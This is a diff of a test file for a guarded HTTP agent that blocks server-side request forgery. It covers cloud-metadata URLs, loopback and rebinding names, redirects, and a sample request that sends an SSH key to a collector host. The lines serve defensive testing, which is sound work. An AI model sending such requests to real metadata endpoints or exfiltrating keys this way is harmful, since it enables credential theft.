@@ -74,7 +74,7 @@ describe('guarded Agent: connections are checked before they are opened', () => 
   it.each(REFUSED_BY_DEFAULT)('refuses http://%s/ without connecting or resolving', async (host) => {
     const spy = recordingConnector();
     const dns = stubLookup({});
-    const agent = agentFor({}, { connector: spy.connector, lookup: dns.lookup });
+    const agent = await agentFor({}, { connector: spy.connector, lookup: dns.lookup });
     const error = await refusal(fetch(`http://${host}/latest/meta-data/`, { dispatcher: agent }));
     expect(error.message).toMatch(/^visit: refused /);
     expect(spy.calls).toEqual([]);
@@ -83,7 +83,7 @@ describe('guarded Agent: connections are checked before they are opened', () => 
 
   it('lets a public address through to the connector (the spy above would see a leak)', async () => {
     const spy = recordingConnector();
-    const agent = agentFor({}, { connector: spy.connector });
+    const agent = await agentFor({}, { connector: spy.connector });
     await expect(fetch('http://93.184.216.34/', { dispatcher: agent })).rejects.toThrow();
     expect(spy.calls).toEqual(['93.184.216.34']);
   });
@@ -95,7 +95,7 @@ describe('guarded Agent: connections are checked before they are opened', () => 
     const port = new URL(server.url).port;
     const dns = stubLookup({ 'intranet.example': ['127.0.0.1'] });
     const error = await refusal(
-      fetch(`http://intranet.example:${port}/`, { dispatcher: agentFor({}, { lookup: dns.lookup }) }),
+      fetch(`http://intranet.example:${port}/`, { dispatcher: await agentFor({}, { lookup: dns.lookup }) }),
     );
     expect(error.message).toContain('refused intranet.example: the name resolves to a loopback address');
     expect(error.message).not.toContain('127.0.0.1');
@@ -113,7 +113,9 @@ describe('guarded Agent: connections are checked before they are opened', () => 
     try {
       const dns = stubLookup({ 'secure.example': ['127.0.0.1'] });
       const { port } = tcp.address() as AddressInfo;
-      await refusal(fetch(`https://secure.example:${port}/`, { dispatcher: agentFor({}, { lookup: dns.lookup }) }));
+      await refusal(
+        fetch(`https://secure.example:${port}/`, { dispatcher: await agentFor({}, { lookup: dns.lookup }) }),
+      );
       expect(dns.asked).toEqual(['secure.example']);
       expect(connections).toBe(0);
     } finally {
@@ -128,7 +130,7 @@ describe('guarded Agent: connections are checked before they are opened', () => 
     const port = new URL(server.url).port;
     const dns = stubLookup({ 'intranet.example': ['127.0.0.1'] });
     const response = await fetch(`http://intranet.example:${port}/`, {
-      dispatcher: agentFor({ allowPrivate: true }, { lookup: dns.lookup }),
+      dispatcher: await agentFor({ allowPrivate: true }, { lookup: dns.lookup }),
     });
     expect(await response.text()).toBe('internal admin page');
     expect(server.requests).toHaveLength(1);
@@ -142,7 +144,9 @@ describe('guarded Agent: connections are checked before they are opened', () => 
     // The loopback answer comes first, so a broken guard would only ever reach the test server.
     const dns = stubLookup({ 'rebind.example': ['127.0.0.1', '169.254.169.254'] });
     const error = await refusal(
-      fetch(`http://rebind.example:${port}/`, { dispatcher: agentFor({ allowPrivate: true }, { lookup: dns.lookup }) }),
+      fetch(`http://rebind.example:${port}/`, {
+        dispatcher: await agentFor({ allowPrivate: true }, { lookup: dns.lookup }),
+      }),
     );
     expect(error.message).toContain('the name resolves to a cloud metadata service');
     expect(server.requests).toHaveLength(0);
@@ -154,7 +158,7 @@ describe('guarded Agent: connections are checked before they are opened', () => 
       res.end();
     });
     const spy = recordingConnector((hostname) => hostname === '127.0.0.1');
-    const agent = agentFor({ allowPrivate: true }, { connector: spy.connector });
+    const agent = await agentFor({ allowPrivate: true }, { connector: spy.connector });
     const error = await refusal(fetch(`${server.url}/start`, { dispatcher: agent, redirect: 'follow' }));
     expect(error.message).toContain('refused 169.254.169.254: it is a cloud metadata service');
     expect(spy.calls).toEqual(['127.0.0.1']);
@@ -163,7 +167,10 @@ describe('guarded Agent: connections are checked before they are opened', () => 
   it('in allowHosts mode refuses every other host before DNS, so nothing leaks through a lookup either', async () => {
     const spy = recordingConnector();
     const dns = stubLookup({ 'collector.example': ['93.184.216.34'] });
-    const agent = agentFor({ allowHosts: ['docs.example.org'] }, { connector: spy.connector, lookup: dns.lookup });
+    const agent = await agentFor(
+      { allowHosts: ['docs.example.org'] },
+      { connector: spy.connector, lookup: dns.lookup },
+    );
     const error = await refusal(fetch('http://collector.example/collect?ssh_key=AAAA', { dispatcher: agent }));
     expect(error.message).toContain('only the hosts the application allows can be reached (docs.example.org)');
     expect(dns.asked).toEqual([]);
